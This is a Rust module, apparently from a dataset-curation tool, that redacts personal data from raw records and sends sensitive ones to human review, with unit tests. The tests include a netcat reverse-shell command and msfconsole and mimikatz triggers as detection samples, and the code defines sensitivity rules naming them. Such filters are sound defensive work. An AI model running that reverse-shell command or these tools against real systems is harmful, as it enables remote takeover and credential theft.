//! Curator: raw dataset → curated dataset + human review queue.
//!
//! Each raw record ends in exactly one terminal state:
//!
//! ```text
//! Ingested ──► Dropped    (empty text)
//!          ├─► Reviewed   (sensitivity rule fired on the original text)
//!          └─► Curated    (redacted text)
//! ```
//!
//! Classification always looks at the unredacted text. Redaction rewrites
//! credentials and addresses, and a trigger phrase hidden inside one of them
//! must still send the record to review.

use std::path::{Path, PathBuf};

use chrono::{DateTime, Utc};
use serde::Serialize;

use crate::config::CuratorConfig;
use crate::error::{Result, SieveError};
use crate::ndjson::{NdjsonLine, NdjsonReader, NdjsonWriter, WriteMode};
use crate::record::{
    CuratedRecord, RawLine, RecordMeta, ReviewRecord, SENSITIVE_FLAG, truncate_chars,
};
use crate::rules::{RedactionTable, SensitivityTable};

/// Terminal state of one ingested record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Disposition {
    /// No usable text.
    Dropped,
    /// Safe for training after redaction.
    Curated(CuratedRecord),
    /// Quarantined for human review.
    Reviewed(ReviewRecord),
}

/// Per-run counts. These are the record of what a run did.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct CurationCounts {
    /// Non-blank lines read.
    pub input: usize,
    /// Lines that were not a JSON record.
    pub malformed: usize,
    /// Records without text.
    pub dropped: usize,
    pub curated: usize,
    pub reviewed: usize,
}

/// Outcome of one curation run.
#[derive(Debug, Clone, Serialize)]
pub struct CurationReport {
    pub curated_path: PathBuf,
    pub review_path: PathBuf,
    pub counts: CurationCounts,
}

/// Splits the raw dataset into curated and review outputs.
pub struct Curator<'a> {
    config: &'a CuratorConfig,
    redactions: RedactionTable,
    sensitivity: SensitivityTable,
}

impl<'a> Curator<'a> {
    /// Curator with the standard rule tables.
    pub fn new(config: &'a CuratorConfig) -> Self {
        Self::with_rules(config, RedactionTable::standard(), SensitivityTable::standard())
    }

    /// Curator with custom rule tables.
    pub fn with_rules(
        config: &'a CuratorConfig,
        redactions: RedactionTable,
        sensitivity: SensitivityTable,
    ) -> Self {
        Self {
            config,
            redactions,
            sensitivity,
        }
    }

    /// Curate the configured raw dataset.
    pub fn curate(&self) -> Result<CurationReport> {
        self.curate_file(&self.config.raw)
    }

    /// Curate `raw_path` into the configured curated and review files.
    pub fn curate_file(&self, raw_path: &Path) -> Result<CurationReport> {
        if !raw_path.exists() {
            return Err(SieveError::missing(
                raw_path,
                "no raw dataset to curate; run `labsieve collect` first",
            ));
        }

        let reader = NdjsonReader::<RawLine>::open(raw_path)?;
        let mut curated = NdjsonWriter::create(&self.config.curated, WriteMode::Truncate)?;
        let mut review = NdjsonWriter::create(&self.config.review, WriteMode::Truncate)?;
        let mut counts = CurationCounts::default();
        let now = Utc::now();

        for line in reader {
            counts.input += 1;
            let raw = match line? {
                NdjsonLine::Parsed(raw) => raw,
                NdjsonLine::Malformed { line, error } => {
                    tracing::debug!(line, "Skipping malformed raw line: {}", error);
                    counts.malformed += 1;
                    continue;
                }
            };

            match self.dispose(&raw, now) {
                Disposition::Dropped => counts.dropped += 1,
                Disposition::Curated(record) => {
                    curated.write(&record)?;
                    counts.curated += 1;
                }
                Disposition::Reviewed(record) => {
                    tracing::debug!(id = %record.meta.id, rule = %record.rule, "Quarantined record");
                    review.write(&record)?;
                    counts.reviewed += 1;
                }
            }
        }

        curated.finish()?;
        review.finish()?;

        tracing::info!(
            input = counts.input,
            malformed = counts.malformed,
            dropped = counts.dropped,
            curated = counts.curated,
            reviewed = counts.reviewed,
            "Curation finished"
        );

        Ok(CurationReport {
            curated_path: self.config.curated.clone(),
            review_path: self.config.review.clone(),
            counts,
        })
    }

    /// Decide the terminal state of one raw record.
    pub fn dispose(&self, raw: &RawLine, now: DateTime<Utc>) -> Disposition {
        let text = match raw.text.as_deref() {
            Some(text) if !text.trim().is_empty() => text,
            _ => return Disposition::Dropped,
        };
        let meta = RecordMeta::from_raw(raw, text, now);

        // Classify before redacting.
        if let Some(rule) = self.sensitivity.classify(text) {
            let excerpt = truncate_chars(text, self.config.excerpt_chars);
            return Disposition::Reviewed(ReviewRecord {
                meta,
                raw_excerpt: excerpt.to_string(),
                flag: SENSITIVE_FLAG.to_string(),
                curated_excerpt: self.redactions.redact(excerpt),
                rule: rule.name().to_string(),
            });
        }

        Disposition::Curated(CuratedRecord {
            meta,
            text: self.redactions.redact(text),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;
    use tempfile::TempDir;

    fn raw(text: &str) -> RawLine {
        RawLine {
            id: Some("id-1".into()),
            source: Some("lab/reports/r.md".into()),
            collected_at: Some("2025-01-01T00:00:00Z".into()),
            text: Some(text.into()),
        }
    }

    fn config_in(dir: &Path) -> CuratorConfig {
        CuratorConfig {
            raw: dir.join("raw.jsonl"),
            curated: dir.join("out/curated.jsonl"),
            review: dir.join("out/review.jsonl"),
            ..Default::default()
        }
    }

    #[test]
    fn test_dispose_curates_with_redaction() {
        let config = CuratorConfig::default();
        let curator = Curator::new(&config);

        match curator.dispose(&raw("contact me at a@b.com or call 555-123-4567"), Utc::now()) {
            Disposition::Curated(record) => {
                assert!(record.text.contains("[REDACTED_EMAIL]"));
                assert!(record.text.contains("[REDACTED_PHONE]"));
                assert!(!record.text.contains("a@b.com"));
                assert!(!record.text.contains("555-123-4567"));
                assert_eq!(record.meta.id, "id-1");
            }
            other => panic!("expected curated, got {:?}", other),
        }
    }

    #[test]
    fn test_dispose_reviews_sensitive() {
        let config = CuratorConfig::default();
        let curator = Curator::new(&config);

        match curator.dispose(&raw("run: nc -e /bin/sh 10.0.0.1 4444"), Utc::now()) {
            Disposition::Reviewed(record) => {
                assert_eq!(record.flag, "sensitive");
                assert_eq!(record.rule, "netcat_exec");
                assert_eq!(record.raw_excerpt, "run: nc -e /bin/sh 10.0.0.1 4444");
                assert!(record.curated_excerpt.contains("[REDACTED_IP]"));
                assert!(!record.curated_excerpt.contains("10.0.0.1"));
            }
            other => panic!("expected review, got {:?}", other),
        }
    }

    #[test]
    fn test_dispose_drops_blank_and_missing_text() {
        let config = CuratorConfig::default();
        let curator = Curator::new(&config);

        assert_eq!(curator.dispose(&raw("   \n"), Utc::now()), Disposition::Dropped);
        assert_eq!(
            curator.dispose(&RawLine::default(), Utc::now()),
            Disposition::Dropped
        );
    }

    #[test]
    fn test_review_excerpt_is_bounded() {
        let config = CuratorConfig {
            excerpt_chars: 16,
            ..Default::default()
        };
        let curator = Curator::new(&config);
        let text = format!("exploit {}", "a".repeat(100));

        match curator.dispose(&raw(&text), Utc::now()) {
            Disposition::Reviewed(record) => {
                assert_eq!(record.raw_excerpt.chars().count(), 16);
                assert!(record.raw_excerpt.starts_with("exploit"));
            }
            other => panic!("expected review, got {:?}", other),
        }
    }

    #[test]
    fn test_trigger_inside_credential_still_reviewed() {
        let config = CuratorConfig::default();
        let curator = Curator::new(&config);

        let outcome = curator.dispose(&raw("token=payload_abcdef123"), Utc::now());
        assert!(matches!(outcome, Disposition::Reviewed(_)));
    }

    #[test]
    fn test_custom_rule_tables() {
        use crate::rules::{RedactionRule, SensitivityCategory, SensitivityRule};

        let config = CuratorConfig::default();
        let redactions = RedactionTable::new(vec![
            RedactionRule::new("hostname", r"\bws-[0-9]+\b", "[REDACTED_HOST]", None).unwrap(),
        ]);
        let sensitivity = SensitivityTable::new(vec![
            SensitivityRule::new("mimikatz", SensitivityCategory::ExploitTool, r"mimikatz")
                .unwrap(),
        ]);
        let curator = Curator::with_rules(&config, redactions, sensitivity);

        // Only the custom tables apply: the email survives, the hostname does not.
        match curator.dispose(&raw("ws-042 mailed a@b.com"), Utc::now()) {
            Disposition::Curated(record) => {
                assert_eq!(record.text, "[REDACTED_HOST] mailed a@b.com");
            }
            other => panic!("expected curated, got {:?}", other),
        }

        // A standard trigger is no longer sensitive; the custom one is.
        assert!(matches!(
            curator.dispose(&raw("msfconsole on ws-7"), Utc::now()),
            Disposition::Curated(_)
        ));
        match curator.dispose(&raw("Mimikatz ran on ws-7"), Utc::now()) {
            Disposition::Reviewed(record) => {
                assert_eq!(record.rule, "mimikatz");
                assert_eq!(record.curated_excerpt, "Mimikatz ran on [REDACTED_HOST]");
            }
            other => panic!("expected review, got {:?}", other),
        }
    }

    #[test]
    fn test_curate_file_missing_input() {
        let dir = TempDir::new().unwrap();
        let config = config_in(dir.path());

        let err = Curator::new(&config).curate().unwrap_err();
        match err {
            SieveError::MissingInput { hint, .. } => assert!(hint.contains("labsieve collect")),
            other => panic!("unexpected error: {}", other),
        }
    }

    #[test]
    fn test_curate_file_counts_and_splits() {
        let dir = TempDir::new().unwrap();
        let config = config_in(dir.path());
        let lines = [
            r#"{"id":"1","source":"a","collected_at":"t","text":"mail a@b.com"}"#,
            r#"{"id":"2","source":"b","collected_at":"t","text":"msfconsole -q"}"#,
            r#"{"id":"3","source":"c","collected_at":"t","text":""}"#,
            "{broken",
            "",
            r#"{"id":"4","source":"d","collected_at":"t","text":"plain notes"}"#,
            r#"{"id":"5","text":"#,
        ];
        fs::write(&config.raw, lines.join("\n")).unwrap();

        let report = Curator::new(&config).curate().unwrap();
        assert_eq!(
            report.counts,
            CurationCounts {
                input: 6,
                malformed: 2,
                dropped: 1,
                curated: 2,
                reviewed: 1,
            }
        );

        let curated = fs::read_to_string(&config.curated).unwrap();
        assert_eq!(curated.lines().count(), 2);
        assert!(!curated.contains("msfconsole"));
        assert!(!curated.contains("a@b.com"));

        let review = fs::read_to_string(&config.review).unwrap();
        let record: ReviewRecord = serde_json::from_str(review.lines().next().unwrap()).unwrap();
        assert_eq!(record.meta.id, "2");
        assert_eq!(record.rule, "msfconsole");
    }

    #[test]
    fn test_curated_line_shape() {
        let dir = TempDir::new().unwrap();
        let config = config_in(dir.path());
        fs::write(
            &config.raw,
            r#"{"id":"x","source":"s.log","collected_at":"2025-01-01T00:00:00Z","text":"hello"}"#,
        )
        .unwrap();

        Curator::new(&config).curate().unwrap();

        let line = fs::read_to_string(&config.curated).unwrap();
        let value: serde_json::Value = serde_json::from_str(line.trim()).unwrap();
        assert_eq!(
            value,
            serde_json::json!({
                "meta": {"id": "x", "source": "s.log", "collected_at": "2025-01-01T00:00:00Z"},
                "text": "hello"
            })
        );
    }
}
